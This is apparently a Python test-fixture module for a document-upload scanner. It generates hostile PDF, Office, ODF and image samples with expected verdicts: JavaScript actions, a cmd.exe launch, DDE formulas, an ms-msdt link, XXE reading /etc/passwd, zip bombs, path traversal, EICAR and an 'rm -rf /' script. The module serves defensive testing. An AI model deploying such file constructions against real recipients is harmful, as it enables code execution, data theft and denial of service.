"""Files that somebody might send to harm, each with what is said of it; made by code, at most some megabytes each."""

from __future__ import annotations

import struct
import zlib

import pikepdf

from core.inspection.formats import MAX_BYTES
from core.inspection.verdict import Code
from tests.core.pieces.made import (
    EICAR,
    SPREADSHEET,
    TEXT,
    XML,
    Array,
    Dictionary,
    Name,
    W,
    acts,
    annotates,
    archive,
    content,
    docx,
    docx_parts,
    field,
    formula,
    manifest,
    nothing,
    odf_parts,
    ods,
    odt,
    paragraphs,
    pdf,
    pdf_stream,
    pdf_written,
    picture,
    png_header,
    rels,
    sheet,
    with_more,
    xlsx,
)


def js():
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _objects_in_a_stream():
    """Keep the action inside a compressed object stream, and write its names in hexadecimal."""
    inner = b"<< /S /J#61vaScript /#4aS (app.alert(1)) >>"
    packed = zlib.compress(b"4 0 " + inner)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        5: pdf_stream(packed, entries=b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
    }
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = b"".join(
        struct.pack(">BIH", *row)
        for row in (
            (0, 0, 65535),
            *((1, places[number], 0) for number in (1, 2, 3)),
            (2, 5, 0),
            (1, places[5], 0),
            (1, start, 0),
        )
    )
    table = pdf_stream(
        zlib.compress(rows), entries=b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
    )
    return bytes(out) + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


def _names_tree(document):
    tree = Dictionary(Names=Array([pikepdf.String("a"), document.make_indirect(js())]))
    document.Root.Names = Dictionary(JavaScript=document.make_indirect(tree))


def _page_opens(document):
    document.pages[0].AA = Dictionary(O=js())


def _field_computes(document):
    text = Dictionary(T="total", FT=Name.Tx, AA=Dictionary(C=js()), Subtype=Name.Widget, Rect=[0, 0, 9, 9])
    document.Root.AcroForm = Dictionary(Fields=[document.make_indirect(text)])


def _next_of_next(document):
    document.Root.OpenAction = Dictionary(
        S=Name.GoTo, D="ici", Next=[Dictionary(S=Name.GoTo, D="la", Next=js())]
    )


def _attached(document):
    document.attachments["facture.exe"] = b"MZ"


def _xfa(document):
    document.Root.AcroForm = Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))


def _streams(*megabytes):
    return pdf_written(*(pdf_stream(nothing(each), entries=b"/Filter /FlateDecode") for each in megabytes))


def _twice_flate():
    packed = zlib.compress(nothing(600))
    return pdf_written(pdf_stream(packed, entries=b"/Filter [/FlateDecode /FlateDecode]"))


def _pages_of_pages():
    """Write a tree whose twelve levels name the next one ten times each."""
    levels = 12
    bodies = [
        b"<< /Type /Pages /Count 1 /Kids [%s] >>" % (b"%d 0 R " % (number + 1) * 10)
        for number in range(4, 4 + levels)
    ]
    return pdf_written(*bodies, b"<< /Type /Page /MediaBox [0 0 9 9] >>", root="/Type /Catalog /Pages 4 0 R")


PDFS = {
    "javascript when it opens": (lambda: pdf(acts(js)), Code.SCRIPT),
    "javascript in a tree of names": (lambda: pdf(_names_tree), Code.SCRIPT),
    "javascript when a page opens": (lambda: pdf(_page_opens), Code.SCRIPT),
    "javascript of a field": (lambda: pdf(_field_computes), Code.SCRIPT),
    "javascript after other actions": (lambda: pdf(_next_of_next), Code.SCRIPT),
    "javascript in an object stream, in hexadecimal": (_objects_in_a_stream, Code.SCRIPT),
    "javascript in object streams": (
        lambda: pdf(acts(js), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        Code.SCRIPT,
    ),
    "javascript by hexadecimal names": (
        lambda: pdf_written(
            b"<< /S /#4A#61vaScrip#74 /JS (app.alert\\(1\\)) >>",
            root="/Type /Catalog /Pages 2 0 R /OpenAction 4 0 R",
        ),
        Code.SCRIPT,
    ),
    "javascript in a stream": (
        lambda: pdf_written(
            b"<< /S /JavaScript /JS 5 0 R >>",
            pdf_stream(b"app.alert(1)"),
            root="/Type /Catalog /Pages 2 0 R /OpenAction 4 0 R",
        ),
        Code.SCRIPT,
    ),
    "javascript of a link": (
        lambda: pdf(annotates(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="javascript:alert(1)"))),
        Code.OUTSIDE_LINK,
    ),
    "launches a program": (lambda: pdf(acts(Dictionary(S=Name.Launch, F="cmd.exe"))), Code.LAUNCH),
    "sends a form": (
        lambda: pdf(annotates(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F="https://x.example"))),
        Code.SENDS,
    ),
    "imports data": (lambda: pdf(acts(Dictionary(S=Name.ImportData, F="x.fdf"))), Code.SENDS),
    "opens another file": (
        lambda: pdf(annotates(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F="\\\\hote\\x.pdf", D=[0]))),
        Code.OUTSIDE_LINK,
    ),
    "a link to a share": (
        lambda: pdf(annotates(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="file://hote/x"))),
        Code.OUTSIDE_LINK,
    ),
    "an attached file": (lambda: pdf(_attached), Code.EMBEDDED),
    "a file behind a note": (
        lambda: pdf(annotates(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F="x"))),
        Code.EMBEDDED,
    ),
    "rich media": (lambda: pdf(annotates(Subtype=Name.RichMedia)), Code.MEDIA),
    "three dimensions": (lambda: pdf(annotates(Subtype=Name("/3D"))), Code.MEDIA),
    "a movie": (lambda: pdf(annotates(Subtype=Name.Movie)), Code.MEDIA),
    "a dynamic form": (lambda: pdf(_xfa), Code.DYNAMIC_FORM),
    "a password": (
        lambda: pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")),
        Code.PASSWORD,
    ),
    "restrictions": (lambda: pdf(encryption=pikepdf.Encryption(user="", owner="secret")), Code.PASSWORD),
    "a stream in another file": (
        lambda: pdf_written(pdf_stream(b"", entries=b"/F (\\\\\\\\hote\\\\x)")),
        Code.OUTSIDE_CONTENT,
    ),
    "one stream that unfolds": (lambda: _streams(300), Code.BOMB),
    "streams that unfold together": (lambda: _streams(*[220] * 4), Code.BOMB),
    "a stream that unfolds twice": (_twice_flate, Code.BOMB),
    "a picture of a billion points": (
        lambda: pdf_written(
            pdf_stream(b"x", entries=b"/Subtype /Image /Width 40000 /Height 40000 /Filter /DCTDecode")
        ),
        Code.BOMB,
    ),
    "1 501 pages": (lambda: pdf(pages=1501), Code.TOO_MANY_PAGES),
    "a tree of pages without end": (_pages_of_pages, Code.DAMAGED),
    "too many objects": (lambda: pdf_written(*[b"<<>>"] * 300_001), Code.COMPLEX),
    "no page": (lambda: pdf(pages=0), Code.NO_PAGE),
    "cut short": (lambda: b"%PDF-1.7 rien", Code.DAMAGED),
    "a script before it": (lambda: b"<script>alert(1)</script>\n" + pdf(), Code.DISGUISED),
    "HTML in its header": (
        lambda: pdf_written(header=b"%PDF-1.7\n%<html><script>alert(1)</script>\n"),
        Code.DISGUISED,
    ),
    "a program after it": (lambda: pdf() + b"MZ\x90\0" * 100, Code.DISGUISED),
    "also a ZIP": (lambda: pdf() + archive([("a", "a")]), Code.DISGUISED),
    "also a ZIP, its end behind": (lambda: pdf() + archive([("a", "a")], comment=b"%%EOF\n"), Code.DISGUISED),
    "the test virus in a stream": (
        lambda: pdf_written(pdf_stream(zlib.compress(EICAR), entries=b"/Filter /FlateDecode")),
        Code.VIRUS,
    ),
    "the test virus, otherwise folded": (
        lambda: pdf_written(pdf_stream(EICAR.hex().encode() + b">", entries=b"/Filter /ASCIIHexDecode")),
        Code.VIRUS,
    ),
}

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)


def _overlapping():
    """Let the directory name one entry's bytes under two names."""
    whole = bytearray(docx(("word/media/a.png", picture())))
    start = whole.rfind(b"PK\x05\x06")
    size, place = struct.unpack_from("<LL", whole, start + 12)
    directory = bytes(whole[place:start])
    last = directory[directory.rfind(b"PK\x01\x02") :]
    again = last.replace(b"word/media/a.png", b"word/media/b.png")
    return (
        bytes(whole[:start])
        + again
        + struct.pack(
            "<4s4H2LH",
            b"PK\x05\x06",
            0,
            0,
            *[directory.count(b"PK\x01\x02") + 1] * 2,
            size + len(again),
            place,
            0,
        )
    )


def _flags(data, bits):
    """Set flags of every entry, in the directory and where it stands."""
    whole = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(signature)
        while at >= 0:
            whole[at + offset] |= bits
            at = whole.find(signature, at + 4)
    return bytes(whole)


def _lying_size():
    """Say that an entry is short where its bytes unfold into more."""
    whole = bytearray(docx(("word/media/a.png", picture() + bytes(50_000))))
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<L", 100)
    return bytes(whole)


def _other_name_where_it_stands():
    whole = docx(("word/media/a.png", picture()))
    return whole.replace(b"word/media/a.png", b"word/media/b.exe", 1)


def _doubled(name="word/document.xml", other="WORD/Document.xml"):
    return archive([*docx_parts(), (other, paragraphs(""))])


def _named(name):
    return docx((name, b"x"))


OFFICE = {
    "macros in a text": (lambda: docx(("word/vbaProject.bin", OLE)), Code.MACROS),
    "macros under another name": (
        lambda: docx(
            ("word/reglages.bin", OLE),
            calls=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "reglages.bin")],
        ),
        Code.MACROS,
    ),
    "a text that says it has macros": (
        lambda: docx(overrides=[("/word/x.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")]),
        Code.MACROS,
    ),
    "macros of Excel 4": (lambda: xlsx(("xl/macrosheets/sheet1.xml", sheet(""))), Code.MACROS),
    "an add-in's ribbon": (lambda: docx(("customUI/customUI.xml", f"{XML}<customUI/>")), Code.MACROS),
    "an OLE object": (lambda: docx(("word/embeddings/oleObject1.bin", OLE)), Code.OBJECT),
    "an OLE object as a picture": (lambda: docx(("word/media/image1.emf", OLE)), Code.OBJECT),
    "an ActiveX control": (lambda: xlsx(("xl/activeX/activeX1.xml", f"{XML}<ax/>")), Code.OBJECT),
    "a workbook in a text": (
        lambda: docx(
            ("word/embeddings/Classeur.xlsx", xlsx()), calls=[("package", "embeddings/Classeur.xlsx")]
        ),
        Code.OBJECT,
    ),
    "a program as a picture": (lambda: docx(("word/media/image1.png", b"MZ\x90\0")), Code.EMBEDDED),
    "a script inside": (lambda: docx(("word/media/x.js", b"alert(1)")), Code.EMBEDDED),
    "a template elsewhere": (
        lambda: docx(
            ("word/settings.xml", f'{XML}<w:settings xmlns:w="{W}"/>'),
            (
                "word/_rels/settings.xml.rels",
                rels(("attachedTemplate", "https://x.example/t.dotm", "External")),
            ),
        ),
        Code.OUTSIDE_TEMPLATE,
    ),
    "a template on a share": (
        lambda: docx(
            ("word/_rels/settings.xml.rels", rels(("attachedTemplate", "file://hote/t.dotm", "External"))),
        ),
        Code.OUTSIDE_TEMPLATE,
    ),
    "a picture elsewhere": (
        lambda: docx(calls=[("image", "https://x.example/suivi.png", "External")]),
        Code.OUTSIDE_CONTENT,
    ),
    "a share as a part": (lambda: docx(calls=[("image", "\\\\hote\\partage\\x")]), Code.OUTSIDE_CONTENT),
    "a link that opens a program": (
        lambda: docx(calls=[("hyperlink", "ms-msdt:/id", "External")]),
        Code.OUTSIDE_LINK,
    ),
    "a link to a file": (
        lambda: docx(calls=[("hyperlink", "file:///c:/x.exe", "External")]),
        Code.OUTSIDE_LINK,
    ),
    "HTML as a part": (
        lambda: docx(("word/a.html", "<script>"), calls=[("aFChunk", "a.html")]),
        Code.OUTSIDE_CONTENT,
    ),
    "DDE in a field": (lambda: docx(body=field("DDEAUTO c:\\\\x.exe")), Code.DDE),
    "DDE cut in pieces": (lambda: docx(body=field("D", "DE", "AUTO x")), Code.DDE),
    "DDE in a simple field": (lambda: docx(body='<w:fldSimple w:instr="DDE x y"/>'), Code.DDE),
    "DDE written by numbers": (lambda: docx(body=field(field("QUOTE 68 68 69"), "x y")), Code.DDE),
    "another file's text": (lambda: docx(body=field('INCLUDETEXT "https://x"')), Code.OUTSIDE_CONTENT),
    "DDE in a formula": (lambda: xlsx(rows=formula("cmd|' /C calc'!A0")), Code.DDE),
    "DDE in a rule": (
        lambda: xlsx(extra="<dataValidations><formula1>cmd|'/C calc'!A0</formula1></dataValidations>"),
        Code.DDE,
    ),
    "a formula that asks a site": (
        lambda: xlsx(rows=formula("_xlfn.WEBSERVICE(&quot;https://x&quot;)")),
        Code.LINKED_DATA,
    ),
    "data of another workbook": (
        lambda: xlsx(
            ("xl/externalLinks/externalLink1.xml", f"{XML}<externalLink/>"),
            calls=[("externalLink", "externalLinks/externalLink1.xml")],
        ),
        Code.LINKED_DATA,
    ),
    "data of a server": (lambda: xlsx(("xl/connections.xml", f"{XML}<connections/>")), Code.LINKED_DATA),
    "an external entity": (
        lambda: docx(
            (
                "word/document.xml",
                '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
            )
        ),
        Code.ENTITIES,
    ),
    "a billion laughs": (lambda: docx(("word/document.xml", f"{LAUGHS}<x>&j;</x>")), Code.ENTITIES),
    "laughs in the list of types": (
        lambda: docx(("[Content_Types].xml", f"{LAUGHS}<x>&j;</x>")),
        Code.ENTITIES,
    ),
    "elements without end": (
        lambda: docx(("word/document.xml", "<a>" + "<b/>" * 2_100_000 + "</a>")),
        Code.COMPLEX,
    ),
    "depth without end": (lambda: docx(("word/document.xml", "<a>" * 5_000 + "</a>" * 5_000)), Code.COMPLEX),
    "an attribute without end": (
        lambda: docx(("word/document.xml", f'<a b="{"x" * 50_000_000}"/>')),
        Code.COMPLEX,
    ),
    "a part that unfolds": (lambda: docx(("word/media/a.png", bytes(130 * 1024**2))), Code.BOMB),
    "parts that unfold together": (
        lambda: docx(*[(f"word/media/{n}.png", bytes(100 * 1024**2)) for n in range(3)]),
        Code.BOMB,
    ),
    "a part longer than it says": (_lying_size, {Code.BOMB, Code.DAMAGED}),
    "an archive inside": (lambda: docx(("word/media/a.png", archive([("x", bytes(10))]))), Code.NESTED),
    "a path upwards": (lambda: _named("../../etc/cron.d/x.png"), Code.TRICKS),
    "a path from the root": (lambda: _named("/etc/x.png"), Code.TRICKS),
    "a disk": (lambda: _named("C:/x.png"), Code.TRICKS),
    "a name that turns round": (lambda: _named("word/gpj\u202eexe.png"), Code.TRICKS),
    "overlapping parts": (_overlapping, Code.TRICKS),
    "another name where it stands": (_other_name_where_it_stands, {Code.TRICKS, Code.DAMAGED}),
    "one name twice": (_doubled, Code.TRICKS),
    "a symbolic link": (
        lambda: docx(("word/media/a.png", ("/etc/passwd", {"external_attr": 0o120777 << 16}))),
        Code.TRICKS,
    ),
    "encrypted parts": (lambda: _flags(docx(), 1), Code.PASSWORD),
    "bytes before it": (
        lambda: b"PK\x03\x04" + b"<script>" * 50 + docx(),
        {Code.DISGUISED, Code.TRICKS, Code.DAMAGED},
    ),
    "bytes after it": (lambda: docx() + b"<script>" * 10, {Code.DISGUISED, Code.DAMAGED}),
    "words after it": (lambda: archive(docx_parts(), comment=b"<script>"), Code.DISGUISED),
    "a protected document": (
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(400),
        Code.PASSWORD,
    ),
    "an old document": (lambda: OLE + bytes(1000), Code.OLD_OFFICE),
    "a slide show": (
        lambda: docx(
            (
                "[Content_Types].xml",
                f'{XML}<Types><Override ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
            )
        ),
        Code.OTHER_OFFICE,
    ),
    "an archive": (lambda: archive([("a.txt", "x")]), Code.PLAIN_ARCHIVE),
    "the test virus in a text": (lambda: docx(("word/media/a.png", EICAR)), Code.VIRUS),
    "the test virus in its words": (
        lambda: docx(("word/document.xml", b"<x><![CDATA[" + EICAR + b"]]></x>")),
        Code.VIRUS,
    ),
    "macros of a text (ODT)": (
        lambda: odt(("Basic/Standard/Module1.xml", "<?xml version='1.0'?><x/>")),
        Code.MACROS,
    ),
    "a script of a sheet (ODS)": (
        lambda: ods("<table:table/>", ("Scripts/python/x.py", "print()")),
        Code.MACROS,
    ),
    "an event (ODT)": (
        lambda: odt(
            body='<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>'
        ),
        Code.MACROS,
    ),
    "an OLE object (ODT)": (lambda: odt(body='<draw:object-ole xlink:href="./Object 1"/>'), Code.OBJECT),
    "an OLE object's bytes (ODT)": (lambda: odt(("Object 1", OLE)), Code.OBJECT),
    "DDE (ODS)": (lambda: ods("<table:dde-links><table:dde-link/></table:dde-links>"), Code.DDE),
    "DDE in a formula (ODS)": (
        lambda: ods(
            '<table:table><table:table-row><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/></table:table-row></table:table>'
        ),
        Code.DDE,
    ),
    "a section elsewhere (ODT)": (
        lambda: odt(
            body='<text:section><text:section-source xlink:href="https://x.example/a.odt"/></text:section>'
        ),
        Code.OUTSIDE_CONTENT,
    ),
    "a picture elsewhere (ODT)": (
        lambda: odt(body='<draw:frame><draw:image xlink:href="https://x.example/a.png"/></draw:frame>'),
        Code.OUTSIDE_CONTENT,
    ),
    "a picture on a share (ODT)": (
        lambda: odt(body='<draw:frame><draw:image xlink:href="../../hote/a.png"/></draw:frame>'),
        Code.OUTSIDE_CONTENT,
    ),
    "a template elsewhere (ODT)": (
        lambda: odt(meta='<meta:template xlink:href="https://x.example/t.ott"/>'),
        Code.OUTSIDE_TEMPLATE,
    ),
    "a frame (ODT)": (
        lambda: odt(body='<draw:floating-frame xlink:href="https://x.example"/>'),
        Code.OUTSIDE_CONTENT,
    ),
    "a link to macros (ODT)": (
        lambda: odt(body='<text:a xlink:href="macro:///Standard.M.x">x</text:a>'),
        Code.OUTSIDE_LINK,
    ),
    "laughs (ODT)": (lambda: odt(("content.xml", f"{LAUGHS}<x>&j;</x>")), Code.ENTITIES),
    "a protected text (ODT)": (lambda: odt(inside="<manifest:encryption-data/>"), Code.PASSWORD),
    "a text that says it is a sheet": (
        lambda: archive(with_more(odf_parts(), ("META-INF/manifest.xml", manifest(root=SPREADSHEET)))),
        Code.DISGUISED,
    ),
    "a drawing (ODG)": (
        lambda: odt(told="application/vnd.oasis.opendocument.graphics"),
        Code.OTHER_OFFICE,
    ),
    "its type behind other parts (ODT)": (
        lambda: archive(
            [("content.xml", content("")), ("mimetype", TEXT), ("META-INF/manifest.xml", manifest())]
        ),
        Code.DISGUISED,
    ),
}

PICTURES = {
    "a header of three gigapixels": (lambda: png_header(60_000, 50_000), Code.TOO_MANY_PIXELS),
    "a picture cut short": (lambda: picture("JPEG", size=(400, 400))[:600], Code.DAMAGED),
    "a picture of nothing": (lambda: png_header(100, 100), Code.DAMAGED),
    "an SVG under another name": (
        lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        Code.OTHER_IMAGE,
    ),
    "an animated GIF": (lambda: picture("GIF"), Code.OTHER_IMAGE),
    "a phone's photograph": (lambda: b"\0\0\0\x18ftypheic" + bytes(100), Code.PHONE_PHOTO),
    "the test virus after a picture": (lambda: picture() + EICAR, Code.VIRUS),
}

OTHERS = {
    "nothing": (lambda: b"", Code.EMPTY),
    "more than 25 MB": (lambda: b"%PDF-" + bytes(MAX_BYTES), Code.TOO_LARGE),
    "the test virus": (lambda: EICAR, Code.VIRUS),
    "a program": (lambda: b"MZ\x90\0" + bytes(500), Code.UNKNOWN),
    "a page of HTML": (lambda: b"<html><script>alert(1)</script>", Code.UNKNOWN),
    "a script": (lambda: b"#!/bin/sh\nrm -rf /\n", Code.UNKNOWN),
    "a RAR": (lambda: b"Rar!\x1a\x07\0" + bytes(100), Code.PLAIN_ARCHIVE),
    "a deflated archive": (lambda: b"\x1f\x8b" + bytes(100), Code.PLAIN_ARCHIVE),
    "a text": (lambda: b"Un texte sans mise en forme", Code.UNKNOWN),
}

#: Name -> how it is made, and the code or codes that are right.
HOSTILE = {**PDFS, **OFFICE, **PICTURES, **OTHERS}
